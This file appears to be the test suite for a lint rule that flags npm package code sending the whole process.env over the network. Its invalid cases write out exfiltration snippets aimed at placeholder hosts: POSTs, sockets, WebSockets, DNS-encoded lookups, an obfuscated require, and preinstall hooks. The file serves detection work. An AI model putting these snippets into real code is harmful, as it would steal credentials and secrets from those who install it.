import { RuleTester } from '../../src/rule-tester/index.ts'
import rule from '../../rules/env-exfiltration.ts'

new RuleTester().run(rule, {
  valid: [
    // Reading single variables is what configuration code does.
    "require('dotenv').config(); console.log(process.env.DATABASE_URL)",
    "fetch('https://api.example.com/v1', { headers: { Authorization: `Bearer ${process.env.API_TOKEN}` } })",
    "const axios = require('axios'); axios.post('https://x.invalid', { token: process.env.NPM_TOKEN })",
    "const env = process.env; fetch(env.REGISTRY_URL + '/-/ping')",
    "const { HOME, USER } = process.env; fetch('https://x.invalid/' + HOME)",
    // Passing the environment to a child process keeps it on the machine.
    "const { spawn } = require('child_process'); spawn(cmd, args, { env: process.env }); fetch('https://x.invalid')",
    "require('child_process').fork('worker.js', { env: { ...process.env, NODE_ENV: 'production' } }); require('https').get('https://x.invalid')",
    // The whole environment, but not over the network.
    'console.log(JSON.stringify(process.env, null, 2))',
    "require('fs').writeFileSync('env.json', JSON.stringify(process.env)); require('https').get('https://x.invalid')",
    "require('https').get('https://registry.npmjs.org/x'); process.stdout.write(JSON.stringify(process.env))",
    { name: 'a stream write with no network use in the file', code: "const out = require('fs').createWriteStream('log'); out.write(JSON.stringify(process.env))" },
    // Derived values that drop the content.
    "fetch('https://x.invalid/count?n=' + Object.keys(process.env).length)",
    "fetch('https://x.invalid', { body: JSON.stringify(Object.keys(process.env).filter((k) => k.startsWith('MY_'))) })",
    { name: 'writing to process.env', code: "process.env.NODE_ENV = 'production'; fetch('https://x.invalid')" },
  ],
  invalid: [
    {
      name: 'fetch with the serialised environment',
      code: "fetch('https://x.invalid/c', { method: 'POST', body: JSON.stringify(process.env) })",
      errors: [{ severity: 'critical', line: 1, message: 'The whole process.env is sent in a network request' }],
    },
    {
      name: 'axios.post with process.env',
      code: "const axios = require('axios')\naxios.post('https://x.invalid', process.env)",
      errors: [{ severity: 'critical', line: 2 }],
    },
    {
      name: 'through a variable',
      code: "const data = JSON.stringify(process.env)\nfetch('https://x.invalid', { method: 'POST', body: data })",
      errors: [{ severity: 'critical', line: 2 }],
    },
    {
      name: 'through an alias of process.env',
      code: "const env = process.env\nconst payload = Buffer.from(JSON.stringify(env)).toString('base64')\nfetch('https://x.invalid/?d=' + payload)",
      errors: [{ severity: 'critical', line: 3 }],
    },
    {
      name: 'destructured from process',
      code: "const { env } = process; fetch('https://x.invalid', { method: 'POST', body: JSON.stringify(env) })",
      errors: [{ severity: 'critical' }],
    },
    {
      name: 'spread into an object',
      code: "const e = { ...process.env, host: require('os').hostname() }; fetch('https://x.invalid', { method: 'POST', body: JSON.stringify(e) })",
      errors: [{ severity: 'critical' }],
    },
    {
      name: 'in a template string',
      code: 'fetch(`https://x.invalid/?e=${encodeURIComponent(JSON.stringify(process.env))}`)',
      errors: [{ severity: 'critical' }],
    },
    {
      name: 'written to an https request',
      code: "const https = require('https')\nconst req = https.request({ host: 'x.invalid', method: 'POST' })\nreq.write(JSON.stringify(process.env))\nreq.end()",
      errors: [{ severity: 'critical', line: 3, message: 'is written to a network request' }],
    },
    {
      name: 'ended on a request',
      code: "require('https').request('https://x.invalid').end(JSON.stringify(process.env))",
      errors: [{ severity: 'critical', message: 'is written to a network request' }],
    },
    {
      name: 'written to a socket, base64-encoded',
      code: "const net = require('net'); const s = net.connect(443, 'x.invalid'); s.write(Buffer.from(JSON.stringify(process.env)).toString('base64'))",
      errors: [{ severity: 'critical' }],
    },
    {
      name: 'a network module loaded through an obfuscated require',
      code: "const h = require(['ht', 'tps'].join('')); h.get('https://x.invalid/?' + new URLSearchParams(process.env))",
      errors: [{ severity: 'critical' }],
    },
    {
      name: 'the global fetch through globalThis',
      code: "globalThis.fetch('https://x.invalid', { method: 'POST', body: JSON.stringify(process.env) })",
      errors: [{ severity: 'critical' }],
    },
    {
      name: 'sent on a WebSocket',
      code: "const ws = new WebSocket('wss://x.invalid'); ws.send(JSON.stringify(process.env))",
      errors: [{ severity: 'critical', message: 'is written to a network request' }],
    },
    {
      name: 'emitted on a socket.io connection',
      code: "const io = require('socket.io-client')('https://x.invalid'); io.emit('e', process.env)",
      errors: [{ severity: 'critical' }],
    },
    {
      name: 'hex-encoded into a DNS lookup',
      code: "require('dns').resolve(Buffer.from(JSON.stringify(process.env)).toString('hex') + '.x.invalid', () => {})",
      errors: [{ severity: 'critical', message: 'is sent in a network request' }],
    },
    {
      name: 'as entries, base64 in a URL',
      code: "require('http').get('http://x.invalid/' + btoa(JSON.stringify(Object.entries(process.env))))",
      errors: [{ severity: 'critical' }],
    },
    {
      name: 'install-time code says so',
      installTime: true,
      code: "fetch('https://x.invalid', { method: 'POST', body: JSON.stringify(process.env) })",
      errors: [{ severity: 'critical', message: 'It runs at install time (postinstall).' }],
    },
    {
      name: 'inline node -e code',
      manifest: { name: 'a', version: '1.0.0', scripts: { preinstall: `node -e "fetch('https://x.invalid', { method: 'POST', body: JSON.stringify(process.env) })"` } },
      errors: [{ severity: 'critical', file: 'package.json#scripts.preinstall' }],
    },
    {
      name: 'one finding per sending call',
      code: "fetch('https://a.invalid', { body: JSON.stringify(process.env) }); fetch('https://b.invalid', { body: JSON.stringify(process.env) })",
      errors: 2,
    },
  ],
})
